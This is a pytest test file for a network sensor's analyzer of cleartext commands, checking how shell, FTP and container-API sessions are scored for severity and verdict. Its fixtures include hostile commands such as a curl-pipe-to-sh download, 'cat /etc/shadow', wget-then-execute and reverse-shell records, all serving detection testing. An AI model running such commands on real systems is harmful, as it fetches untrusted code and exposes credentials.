from __future__ import annotations

import pytest

from sensor.analyzers.cleartext_command import Settings, analyzer
from sensor.engines.batch import Batch
from sensor.findings import Severity, Verdict
from tests.strategies import command_row, request_row, spoken_frame

LOADS = {"command": "curl http://192.0.2.1/a | sh", "tells": ["download", "download-execute"]}
READS = {"command": "cat /etc/shadow", "tells": ["credentials"]}
SCANS = {"command": "nmap 10.0.0.0/8", "tells": ["scan"]}
REVERSE = {"service": "shell", "typed_by": "resp", "resp_p": 4444, "orig_h": "10.0.0.5"}
REVERSE |= {"resp_h": "198.51.100.7", "orig_inside": True, "resp_inside": False}
BIND = {"service": "shell", "resp_p": 4444}
INSIDE = {"orig_h": "10.0.0.6", "orig_inside": True}


def found(*rows, table="command", **settings):
    engine = Batch([analyzer(Settings(**settings))])
    engine.add(
        table, spoken_frame(table, *({**row, "uid": f"C{at}"} for at, row in enumerate(rows)))
    )
    return engine.findings()


@pytest.mark.parametrize(
    ("changes", "severity"),
    [
        ({}, Severity.LOW),
        ({"service": "ftp", "command": "RETR a", "output": "226 done"}, Severity.LOW),
        ({"service": "ftp", "command": "SITE exec id", "output": "200 done"}, Severity.HIGH),
        ({"service": "ftp", "command": "SITE exec id", "output": "500 no"}, Severity.LOW),
        (SCANS, Severity.MEDIUM),
        (READS, Severity.HIGH),
        (LOADS, Severity.HIGH),
        (BIND, Severity.HIGH),
        (BIND | READS, Severity.HIGH),
        (BIND | LOADS, Severity.CRITICAL),
        (REVERSE, Severity.HIGH),
        (REVERSE | LOADS, Severity.CRITICAL),
        (INSIDE, Severity.INFO),
        (INSIDE | LOADS, Severity.MEDIUM),
        (INSIDE | BIND, Severity.MEDIUM),
        (BIND | LOADS | {"orig_allowed": True}, Severity.INFO),
        (REVERSE | {"orig_allowed": True}, Severity.HIGH),
    ],
)
def test_severity_is_that_of_the_channel_and_of_what_commands_give_away(changes, severity):
    (finding,) = found(command_row(**changes))
    assert finding.severity is severity


def test_in_a_reverse_shell_the_outside_end_is_the_source():
    (finding,) = found(command_row(**REVERSE, output="root"))

    assert (finding.src_ip, finding.dest_ip, finding.dest_port) == (
        "198.51.100.7",
        "10.0.0.5",
        4444,
    )
    assert (finding.verdict, finding.status) == (Verdict.USED, "success")
    assert "into a shell that 10.0.0.5 opened to its port 4444/tcp" in finding.message


@pytest.mark.parametrize(
    "changes",
    [
        {"resp_h": "198.51.100.9", "resp_inside": False},
        {"resp_h": "198.51.100.9", "resp_inside": False, "orig_inside": True},
        REVERSE | {"orig_h": "203.0.113.9", "orig_inside": False},
    ],
    ids=["between others", "from inside to others", "a shell of others"],
)
def test_what_is_typed_on_hosts_of_others_is_not_told(changes):
    assert found(command_row(**changes)) == []


@pytest.mark.parametrize("runs", ["./a", "chmod +x a", "chmod 777 a", "/tmp/a -d", "sh a.sh"])
def test_a_download_and_a_program_that_is_started_are_one(runs):
    loads = command_row(command="wget http://192.0.2.1/a", tells=["download"])

    (finding,) = found(loads, command_row(command=runs))
    assert finding.severity is Severity.HIGH
    (finding,) = found(loads, command_row(command="chmod 644 a"))
    assert finding.severity is Severity.MEDIUM


def test_commands_that_were_all_refused_are_attempts():
    (finding,) = found(command_row(service="ftp", command="STOR a", output="550 no"))
    assert (finding.verdict, finding.status) == (Verdict.ATTEMPTED, "unknown")


def test_what_gives_something_away_comes_first_and_all_is_bounded():
    rows = [command_row(command=f"echo {number}") for number in range(9)]
    (finding,) = found(*rows, command_row(**LOADS, unlisted=4), told=2, listed=3)

    assert "typed 14 commands" in finding.message
    assert len(finding.evidence) == 3
    assert finding.evidence[0]["command"] == LOADS["command"]
    assert finding.message.endswith('| sh" (download, download-execute)')
    assert finding.not_seen[0].startswith("what 4 commands were")


@pytest.mark.parametrize(
    ("changes", "severity", "verdict"),
    [
        ({}, Severity.LOW, Verdict.USED),
        ({"risks": ["privileged"]}, Severity.MEDIUM, Verdict.USED),
        ({"risks": ["escape"]}, Severity.CRITICAL, Verdict.USED),
        ({"risks": ["escape"], "outcome": "refused"}, Severity.HIGH, Verdict.ATTEMPTED),
        ({"risks": ["keys"]}, Severity.HIGH, Verdict.USED),
        ({"risks": ["escape"], **INSIDE}, Severity.HIGH, Verdict.USED),
        ({"risks": ["escape"], "orig_allowed": True}, Severity.INFO, Verdict.USED),
    ],
)
def test_commands_in_containers_are_told(changes, severity, verdict):
    (finding,) = found(request_row(**changes), table="container_api")
    assert (finding.severity, finding.verdict) == (severity, verdict)
    assert "into containers of docker on" in finding.message


def test_requests_that_run_nothing_are_not_told():
    list_ = request_row(operation="list")
    start = request_row(command=None)
    assert found(list_, start, table="container_api") == []
